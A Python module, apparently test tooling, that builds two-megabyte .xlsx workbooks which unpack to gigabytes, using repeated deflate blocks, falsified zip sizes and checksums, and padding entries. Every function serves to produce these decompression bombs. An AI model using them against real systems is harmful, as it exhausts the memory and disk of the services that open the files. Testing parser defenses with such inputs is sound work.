"""Workbooks that unpack to far more than they weigh. Each weighs two megabytes.

A repeated piece is deflated once and its bytes are repeated, so that a bomb of gigabytes is made in no time. Sizes and
checksums in the zip are lies.
"""

import struct
import zlib
from collections.abc import Callable, Mapping
from itertools import count
from pathlib import Path

WEIGHT_BYTES = 2_000_000

_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LOCAL = struct.Struct("<4s5H3L2H")
_ENTRY = struct.Struct("<4s6H3L5H2L")
_END = struct.Struct("<4s4H2LH")
DEFLATED = 8

SHEET, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
HEAD, TAIL = b"<worksheet><sheetData>", b"</sheetData></worksheet>"
PARTS: Mapping[str, bytes] = {
    "_rels/.rels": f'<R><Relationship Id="1" Type="{_TYPES}/officeDocument" Target="xl/workbook.xml"/></R>'.encode(),
    "xl/workbook.xml": b'<workbook xmlns:r="http://r"><sheets><sheet name="1" r:id="1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": (
        f'<R><Relationship Id="1" Type="{_TYPES}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="2" Type="{_TYPES}/sharedStrings" Target="sharedStrings.xml"/>'
        f'<Relationship Id="3" Type="{_TYPES}/styles" Target="styles.xml"/></R>'
    ).encode(),
    SHEET: HEAD + b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + TAIL,
    STRINGS: b"<sst><si><t>room</t></si></sst>",
    STYLES: b"<styleSheet/>",
}


def deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def repeated(head: bytes, piece: bytes, tail: bytes) -> bytes:
    """Deflated: `piece` until it weighs enough."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    begin = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(piece * max(1, 1_000_000 // len(piece))) + packer.flush(zlib.Z_FULL_FLUSH)
    return begin + block * (WEIGHT_BYTES // len(block)) + deflated(tail)


def numbered(head: bytes, piece: Callable[[int], str], tail: bytes) -> bytes:
    """Deflated: pieces that differ, until they weigh enough."""
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = bytearray(packer.compress(head))
    for start in count(0, 10_000):
        packed += packer.compress("".join(map(piece, range(start, start + 10_000))).encode())
        if len(packed) > WEIGHT_BYTES:
            return bytes(packed) + packer.compress(tail) + packer.flush()
    raise AssertionError


def checksum(packed: bytes) -> int:
    """Of what is small; nobody reads to the end of a bomb."""
    unpacked = zlib.decompressobj(-15).decompress(packed, 1_000_000)
    return zlib.crc32(unpacked) if len(unpacked) < 1_000_000 else 0


def write(path: Path, packed: Mapping[str, bytes], method: int = DEFLATED, flags: int = 0, copies: int = 0) -> None:
    """The usual parts, but for those that are given. `copies` of an empty one beside them."""
    parts = {name: deflated(content) for name, content in PARTS.items()} | dict(packed)
    parts |= {f"x{number}": deflated(b"") for number in range(copies)}
    with path.open("wb") as file:
        directory = bytearray()
        for name, content in parts.items():
            sizes = (checksum(content), len(content), 0xFFFF_FFF0)
            at = file.tell()
            file.write(_LOCAL.pack(b"PK\3\4", 20, flags, method, 0, 0, *sizes, len(name), 0) + name.encode() + content)
            about = (20, 20, flags, method, 0, 0, *sizes, len(name), 0, 0, 0, 0, 0, at)
            directory += _ENTRY.pack(b"PK\1\2", *about) + name.encode()
        at, entries = file.tell(), min(len(parts), 0xFFFF)
        file.write(directory + _END.pack(b"PK\5\6", 0, 0, entries, entries, len(directory), at, 0))
